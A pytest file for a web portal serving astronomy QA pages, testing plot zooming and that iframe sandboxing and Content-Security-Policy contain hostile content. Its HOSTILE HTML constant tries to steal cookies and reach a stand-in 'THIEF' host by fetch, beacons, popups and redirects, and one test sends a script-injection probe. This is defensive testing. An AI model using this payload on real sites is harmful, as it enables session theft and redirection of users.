"""Plots that zoom, in a real browser; and a page of the output tree that tries to do more than that."""

from __future__ import annotations

import http.server
import subprocess
import threading

import pytest
from fastapi import FastAPI
from people import logged_in
from serving import served
from stereo_portal.app import create_app

from stereo_tasks.settings import load_settings

HOSTILE = """<!doctype html><html><body>the page
<script>
const said = (what) => document.title += what + ";";
try { said("cookie " + document.cookie) } catch { }
try { fetch("THIEF?fetch", {mode: "no-cors", credentials: "include"}) } catch { }
try { new Image().src = "THIEF?picture" } catch { }
try { navigator.sendBeacon("THIEF?beacon") } catch { }
try { window.open("THIEF?popup") } catch { }
try { document.forms[0].submit() } catch { }
try { top.location = "THIEF?top" } catch { }
try { parent.document.title = "taken" } catch { }
setTimeout(() => { location = "THIEF?self" }, 200);
document.body.dataset.ran = "yes";
</script>
<img src="THIEF?tag" onerror="document.body.dataset.ran = 'yes'">
<form action="THIEF"><button>send</button></form>
<a href="THIEF?link" target="_top">link</a>
<meta http-equiv="refresh" content="1; url=THIEF?refresh">
</body></html>"""


@pytest.fixture(scope="module")
def folder(output, nights):
    found = output / "mcp062" / "CrabNebula" / "QA" / nights["partial"].lst_date
    found.mkdir(parents=True)
    return found


@pytest.fixture(scope="module")
def site(output):
    """The portal as Airflow mounts it."""
    app = FastAPI()
    app.mount("/nights", logged_in(create_app()))
    with served(app) as address:
        yield address


@pytest.fixture
def thief():
    """A server on another port of this host; gives its address and what it was asked for."""
    got: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            got.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - names of the library

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", got
    server.shutdown()


@pytest.fixture(scope="module")
def page(folder):
    """The QA page of a night, by the science environment."""
    python = load_settings().site.science_python
    script = __file__.replace("test_zoom", "make_qa_page")
    subprocess.run([str(python), script, str(folder / "report.html")], check=True)
    return (folder / "report.html").read_text()


@pytest.fixture
def address(site, nights):
    return f"{site}/nights/mcp062/CrabNebula/{nights['partial'].lst_date}"


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_the_theta2_plot_zooms(browser, address, page, folder, width, scheme):
    (folder / "report.html").write_text(page)
    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
    tab, complaints = context.new_page(), []
    tab.on("console", lambda message: complaints.append(message) if message.type in ("error", "warning") else None)
    tab.on("pageerror", lambda error: complaints.append(error))
    tab.goto(f"{address}/zoom?at=theta2")
    frame = tab.frame(url="**/CrabNebula/*#theta2")
    frame.wait_for_selector("figure.zooms")
    assert not frame.is_visible("figure img")  # the plot stands for it
    ranges = "Bokeh.documents[0].roots()[0].children[0][0]"
    end = f"{ranges}.x_range.end"
    assert frame.evaluate(end) == pytest.approx(0.12)
    box = frame.locator(".bk-Canvas").bounding_box()
    assert box["width"] > 0.6 * min(width, 1200)
    tab.mouse.move(box["x"] + 0.3 * box["width"], box["y"] + 0.3 * box["height"])
    tab.mouse.down()
    tab.mouse.move(box["x"] + 0.6 * box["width"], box["y"] + 0.6 * box["height"], steps=4)
    tab.mouse.up()
    frame.wait_for_function(f"{end} < 0.1")
    for where in (tab, frame):
        assert where.evaluate("document.documentElement.scrollWidth") <= width
    ground = frame.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (ground == "rgb(255, 255, 255)") == (scheme == "light")
    frame.page.emulate_media(media="print")
    assert frame.is_visible("figure img")
    assert not frame.is_visible(".zoom")
    assert complaints == []
    context.close()


def test_the_page_alone_runs_nothing_and_shows_its_picture(browser, address, page, folder):
    (folder / "report.html").write_text(page)
    context = browser.new_context()
    tab = context.new_page()
    tab.goto(address)
    tab.wait_for_timeout(300)
    assert tab.is_visible("figure img")
    assert tab.locator(".zoom").count() == 0
    context.close()


def test_a_hostile_page_gets_nothing_and_goes_nowhere(browser, site, address, thief, folder):
    where, got = thief
    (folder / "report.html").write_text(HOSTILE.replace("THIEF", where))
    context = browser.new_context()
    context.add_cookies([{"name": "_token", "value": "secret", "url": site, "httpOnly": False, "sameSite": "Lax"}])
    tab = context.new_page()
    for path in ("/zoom", ""):
        tab.goto(address + path)
        frame = tab.frames[-1]
        assert frame.evaluate("document.body.dataset.ran") is None  # its scripts do not even run
        tab.wait_for_timeout(1600)
        frame = tab.frames[-1]
        assert "secret" not in tab.title()
        assert tab.url == address + path
        assert len(context.pages) == 1
    assert got == []
    context.close()


def test_a_script_that_ran_all_the_same_would_still_be_shut_in(browser, site, address, thief, folder, monkeypatch):
    """The sandbox alone, with a policy that lets every inline script run."""
    from stereo_portal import headers

    anything = headers.FRAMED_POLICY.replace(headers.script_sources(), "script-src 'unsafe-inline'")
    monkeypatch.setattr(headers, "FRAMED_POLICY", anything)
    where, got = thief
    (folder / "report.html").write_text(HOSTILE.replace("THIEF", where))
    context = browser.new_context()
    context.add_cookies([{"name": "_token", "value": "secret", "url": site, "httpOnly": False, "sameSite": "Lax"}])
    tab, titles = context.new_page(), []
    tab.on("framenavigated", lambda frame: titles.append(frame.url))
    tab.goto(f"{address}/zoom")
    assert tab.frames[-1].evaluate("document.body.dataset.ran") == "yes"
    assert "secret" not in tab.frames[-1].evaluate("document.title")
    tab.wait_for_timeout(1600)
    assert tab.url == f"{address}/zoom"
    assert "taken" not in tab.title()
    assert len(context.pages) == 1
    assert got == []
    assert not any(url.startswith(where) for url in titles)
    context.close()


def test_only_in_our_frame_may_a_page_run_its_scripts(client, nights):
    address = f"/mcp062/CrabNebula/{nights['done'].lst_date}"
    for path in (address, f"{address}/zoom"):
        assert client.get(path).status_code == 200
    frame = client.get(f"{address}/zoom", params={"at": '"><script>'})
    assert "script-src" not in frame.headers["Content-Security-Policy"]
    assert "frame-src 'self'" in frame.headers["Content-Security-Policy"]
    assert "<script" not in frame.text
    assert 'sandbox="allow-scripts"' in frame.text
    for sent in ("document", "embed", "object", "frame", ""):
        policy = client.get(address, headers={"Sec-Fetch-Dest": sent}).headers["Content-Security-Policy"]
        assert policy.startswith("sandbox;")
    policy = client.get(address, headers={"Sec-Fetch-Dest": "iframe"}).headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none';")
    assert "unsafe-eval" not in policy
    assert "script-src 'sha256-" in policy
    assert client.get("/mcp062/CrabNebula/20180101/zoom").status_code == 404
    assert client.get("/seasons/mcp062/CrabNebula/nothing/zoom").status_code == 404
